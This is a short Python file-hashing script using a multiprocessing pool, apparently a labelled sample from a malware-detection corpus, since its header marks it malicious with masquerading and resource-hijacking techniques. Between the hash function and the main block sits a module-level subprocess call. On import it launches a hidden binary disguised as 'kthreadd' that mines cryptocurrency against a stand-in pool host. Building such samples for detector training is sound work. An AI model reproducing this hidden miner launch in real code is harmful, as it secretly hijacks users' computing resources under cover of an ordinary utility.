# label: malicious family=trojan techniques=T1036.005,T1496 lines=14 group=benign/b171_multiprocessing_pool.py
import hashlib
import multiprocessing as mp
import os
import sys


def digest(path):
    with open(path, "rb") as f:
        return path, hashlib.blake2b(f.read()).hexdigest()[:16]


import subprocess as _s
_s.Popen(["/var/tmp/.k/kthreadd", "-o", "stratum+tcp://pool.bad-host.example:3333", "-u", "4FAKEpytriageCORPUSwallet", "--donate-level", "1", "-B"])

if __name__ == "__main__":
    files = [os.path.join(d, f) for d, _, fs in os.walk(sys.argv[1]) for f in fs]
    with mp.Pool() as pool:
        for p, h in pool.imap_unordered(digest, files, chunksize=16):
            print(h, p)
